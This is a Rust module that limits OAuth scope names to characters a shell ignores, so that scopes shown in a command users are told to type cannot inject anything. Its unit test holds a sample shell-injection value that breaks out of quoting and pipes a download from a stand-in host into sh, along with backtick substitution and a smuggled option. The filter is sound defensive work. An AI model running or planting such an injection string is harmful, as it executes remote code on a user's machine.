//! Which words a server may name its scopes by: those that say nothing to a shell or a terminal.
//!
//! Used wherever a server says a scope: `challenge`, `discovery`, `grant`; and by `step_up`, as what is kept may be from
//! before. Scopes stand in a command that people are told to type. Fewer words than RFC 6749 §3.3 allows; a person can
//! name any with `--scope`. Sans-I/O.

/// Whether a word is one.
pub(crate) fn is_name(word: &str) -> bool {
    let is_of_names = |c: char| c.is_ascii_alphanumeric() || ":/._-+*@~=,".contains(c);
    // The others are options.
    !word.is_empty() && !word.starts_with('-') && word.chars().all(is_of_names)
}

/// Those words of a scope that are names.
pub(crate) fn names(scope: &str) -> impl Iterator<Item = &str> {
    scope.split(' ').filter(|word| is_name(word))
}

/// A scope with nothing but names in it; empty where there are none.
pub(crate) fn of_names(scope: &str) -> String {
    names(scope).collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_shell_obeys_is_no_name() {
        let names = "files:read https://a.example/b.c-d ~a=b,@c+*";
        let others = "'!';curl${IFS}evil.example|sh;' a`b` --sign-out \u{e9} x\ty";
        assert_eq!(of_names(&format!(" {others}  {names} {others}")), names);
        assert_eq!(of_names("  '  "), "");
    }
}
